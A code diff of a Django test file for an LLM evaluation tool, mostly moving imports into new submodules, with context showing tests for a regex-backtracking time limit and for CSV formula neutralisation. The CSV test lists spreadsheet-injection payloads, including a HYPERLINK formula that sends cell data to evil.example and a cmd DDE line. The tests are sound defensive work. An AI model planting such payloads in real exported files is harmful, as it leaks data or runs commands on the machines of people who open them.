@@ -7,8 +7,10 @@ from evals import engine
 from evals.actions import EvalConfigError, cancel_eval, create_eval, resume_eval
 from evals.benchmarks import gsm8k
 from evals.benchmarks.base import Benchmark, Row, Score
+from evals.benchmarks.gsm8k import gsm8k_answer
 from evals.models import Deployment, Eval, Sample
-from evals.scoring import ScoringError, gsm8k_answer, last_number, strip_fences
+from evals.scoring.base import ScoringError
+from evals.scoring.extraction import last_number, strip_fences
 from evals.subset import select_rows
 from evals.tasks import run_async, run_eval
 
@@ -261,7 +263,7 @@ def test_resume_after_a_killed_worker_has_no_duplicates(project, owner, fake, de
 
 @pytest.mark.django_db
 def test_benchmark_rules_are_enforced_with_named_messages(api, project, deployment):
-    from evals.datasets import create_dataset
+    from evals.datasets.versions import create_dataset
 
     dataset = create_dataset(project, None, "d", b'{"input": "1+1", "expected": "2"}\n')
     both = api.post("/api/v1/evals", {"benchmark": "gsm8k", "dataset_id": dataset.pk, "deployment": "fake"}, format="json")
@@ -276,7 +278,7 @@ def test_benchmark_rules_are_enforced_with_named_messages(api, project, deployme
 
 @pytest.mark.django_db
 def test_the_form_shows_the_same_rule(owner_client, project, deployment):
-    from evals.datasets import create_dataset
+    from evals.datasets.versions import create_dataset
 
     dataset = create_dataset(project, None, "d", b'{"input": "1+1", "expected": "2"}\n')
     response = owner_client.post("/evals/new/dataset/", {"dataset": dataset.pk, "deployment": deployment.pk, "scorers": []})
@@ -287,7 +289,7 @@ def test_the_form_shows_the_same_rule(owner_client, project, deployment):
 
 @pytest.mark.django_db(transaction=True)
 def test_dataset_eval_with_every_scorer(project, owner, fake, deployment):
-    from evals.datasets import create_dataset
+    from evals.datasets.versions import create_dataset
 
     judge = Deployment.objects.create(project=project, name="judge", base_url=fake.url, model="judge")
     fake.answer = lambda text: "CORRECT" if text.startswith("You grade") else "The capital is Paris, population 2,100,000"
@@ -381,7 +383,8 @@ def test_a_catastrophic_regex_errors_the_sample_within_its_time_limit(project, o
     import time
 
     from evals.benchmarks.base import Row
-    from evals.datasets import DatasetBenchmark, create_dataset
+    from evals.datasets.evals import DatasetBenchmark
+    from evals.datasets.versions import create_dataset
 
     fake.answer = lambda text: "a" * 26 + "!"  # ^(a|a)*$ backtracks 2^26 ways on it
     dataset = create_dataset(project, owner, "evil", b"".join(b'{"input": "q%d", "expected": "x"}\n' % i for i in range(6)))
@@ -406,7 +409,7 @@ def test_a_catastrophic_regex_errors_the_sample_within_its_time_limit(project, o
 
 @pytest.mark.django_db
 def test_an_invalid_regex_is_refused_when_the_eval_is_created(project, owner, deployment):
-    from evals.datasets import create_dataset
+    from evals.datasets.versions import create_dataset
 
     dataset = create_dataset(project, owner, "d", b'{"input": "1+1", "expected": "2"}\n')
     with pytest.raises(EvalConfigError, match="pattern is invalid"):
@@ -440,7 +443,7 @@ def test_csv_downloads_neutralise_formulas(api, project, owner, fake, deployment
     import csv
     import io
 
-    from evals.datasets import create_dataset
+    from evals.datasets.versions import create_dataset
 
     payloads = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
     fake.answer = lambda text: payloads[int(text[1:])]
